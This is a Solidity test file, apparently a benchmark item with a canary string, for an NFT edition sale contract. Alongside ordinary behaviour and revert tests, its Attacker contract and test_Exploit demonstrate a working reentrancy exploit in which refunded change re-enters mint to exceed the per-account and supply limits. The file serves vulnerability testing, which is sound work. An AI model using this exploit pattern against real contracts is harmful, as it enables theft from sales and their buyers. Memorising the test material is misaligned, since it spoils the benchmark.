pragma solidity 0.5.17;

import "./EditionSale.sol";

// assay-canary-7d3ee579-bddf-46d2-b24e-2987fbfe1376

interface Vm {
    function prank(address who) external;
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Minter {
    EditionSale internal sale;

    constructor(EditionSale _sale) public {
        sale = _sale;
    }

    function() external payable {}

    function mint(uint256 amount) public returns (uint256) {
        return sale.mint.value(amount)();
    }

    function transferItem(uint256 number, address to) public {
        sale.transferItem(number, to);
    }

    function refund(uint256 number) public {
        sale.refund(number);
    }
}

// Sends a little too much and buys again while the change comes back.
contract Attacker {
    EditionSale internal sale;
    uint256 internal left;

    constructor(EditionSale _sale) public {
        sale = _sale;
    }

    function run(uint256 copies) external {
        left = copies;
        more();
    }

    function() external payable {
        if (left > 0) more();
    }

    function more() private {
        left--;
        sale.mint.value(sale.currentPrice() + 1 wei)();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    EditionSale internal sale;
    Minter internal nadia;
    Minter internal oscar;
    Attacker internal collector;
    address payable internal artist = address(0xA7715700);

    function setUp() public {
        vm.warp(1700000000);
        sale = new EditionSale(artist, 24, 1 ether, 1 ether / 10);
        sale.setOpen(true);
        nadia = new Minter(sale);
        oscar = new Minter(sale);
        collector = new Attacker(sale);
        vm.deal(address(nadia), 10 ether);
        vm.deal(address(oscar), 10 ether);
        vm.deal(address(collector), 40 ether);
        require(nadia.mint(1 ether) == 1, "first number");
    }

    function test_Regular() public {
        require(oscar.mint(3 ether) == 2, "second number");
        require(address(oscar).balance == 9 ether, "change returned");
        nadia.mint(1 ether);
        require(!attempt(address(nadia), abi.encodeWithSelector(nadia.mint.selector, 1 ether)), "three for one account");
        require(!attempt(address(oscar), abi.encodeWithSelector(oscar.mint.selector, 1 ether - 1)), "below the currentPrice");
        require(sale.mintedBy(address(nadia)) == 2 && sale.totalMinted() == 3, "counted");

        nadia.transferItem(1, address(oscar));
        require(!attempt(address(nadia), abi.encodeWithSelector(nadia.refund.selector, 1)), "transferred");
        oscar.refund(1);
        require(address(oscar).balance == 10 ether, "refunded");
        require(!attempt(address(oscar), abi.encodeWithSelector(oscar.refund.selector, 1)), "refunded twice");

        // seven more fill the tier
        for (uint256 i = 0; i < 7; i++) {
            Minter c = new Minter(sale);
            vm.deal(address(c), 1 ether);
            c.mint(1 ether);
        }
        require(sale.currentPrice() == 1.1 ether, "second tier");

        vm.warp(1700000000 + 8 days);
        sale.payArtist(100);
        require(artist.balance == 9 ether && sale.totalPaid() == 10, "artist paid");
        require(address(sale).balance == 0, "nothing kept");
        require(limitsKept(), "limits");

        vm.prank(artist);
        sale.setArtist(address(0xA7));
        require(sale.artist() == address(0xA7), "artist changed");
        sale.transferOwnership(artist);
        vm.prank(artist);
        sale.renounceOwnership();
    }

    function attempt(address who, bytes memory data) private returns (bool ok) {
        (ok, ) = who.call(data);
    }

    // The account has minted two items at most, and there are no more items than the edition may have.
    function limitsKept() public view returns (bool) {
        return sale.mintedBy(address(collector)) <= sale.PER_ACCOUNT() && sale.totalMinted() <= sale.supplyCap();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The artist's place and the owner's switch.
    function test_RefusesStrangers() public {
        refuses(address(nadia), "only the artist may do this");
        sale.setArtist(address(0xA7));
        refuses(artist, "the artist must not be zero");
        sale.setArtist(address(0));
        refuses(address(nadia), "Ownable: caller is not the owner");
        sale.setOpen(false);
        refuses(address(oscar), "the sender does not hold the item");
        sale.transferItem(1, address(oscar));
        refuses(address(oscar), "the sender does not hold the item");
        sale.refund(1);
    }

    /// Editions have a size and prices.
    function test_RefusesEditions() public {
        require(!_make(0, 1, 1) && !_make(501, 1, 1) && _make(500, 1, 1), "size");
        require(!_make(1, 0, 1) && !_make(1, 2**96, 1) && !_make(1, 1, 2**96), "currentPrice");
    }

    function _make(uint256 size, uint256 base, uint256 step) private returns (bool ok) {
        (ok, ) = address(this).call(abi.encodeWithSelector(this.make.selector, size, base, step));
    }

    function make(uint256 size, uint256 base, uint256 step) external {
        new EditionSale(artist, size, base, step);
    }

    function test_RefusesNoArtist() public {
        vm.expectRevert("the artist must not be zero");
        new EditionSale(address(0), 1, 1, 1);
    }

    function test_RefusesTooLittle() public {
        vm.deal(address(this), 1 ether);
        vm.expectRevert("the price is not met");
        sale.mint.value(1 ether - 1)();
    }

    /// Items that are not on sale, sold out, returned, too late, or not taken.
    function test_RefusesPrints() public {
        refuses(address(nadia), "the item cannot be transferred");
        sale.transferItem(1, address(0));
        nadia.refund(1);
        refuses(address(nadia), "the item cannot be transferred");
        sale.transferItem(1, address(oscar));
        oscar.mint(1 ether);
        vm.warp(now + 7 days);
        refuses(address(oscar), "the period is over");
        sale.refund(2);
        sale.setOpen(false);
        refuses(address(oscar), "the sale is closed");
        sale.mint.value(1 ether)();
        EditionSale last = new EditionSale(artist, 1, 1, 0);
        last.setOpen(true);
        vm.deal(address(last), 1 ether);
        vm.deal(address(this), 1 ether);
        vm.expectRevert("the change was not taken");
        last.mint.value(2)();
        last.mint.value(1)();
        vm.expectRevert("the refund was not taken");
        last.refund(1);
        vm.expectRevert("the edition is sold out");
        last.mint.value(1)();
    }

    function exploit() public {
        collector.run(30);
    }

    function test_Exploit() public {
        exploit();
        require(!limitsKept(), "limits kept");
        require(sale.mintedBy(address(collector)) == 30 && sale.totalMinted() == 31, "thirty items beyond both limits");
        require(sale.currentPrice() == 1.3 ether, "currentPrice caught up afterwards");
    }

    function target() public view returns (address) {
        return address(sale);
    }

    function attacker() public view returns (address) {
        return address(collector);
    }
}
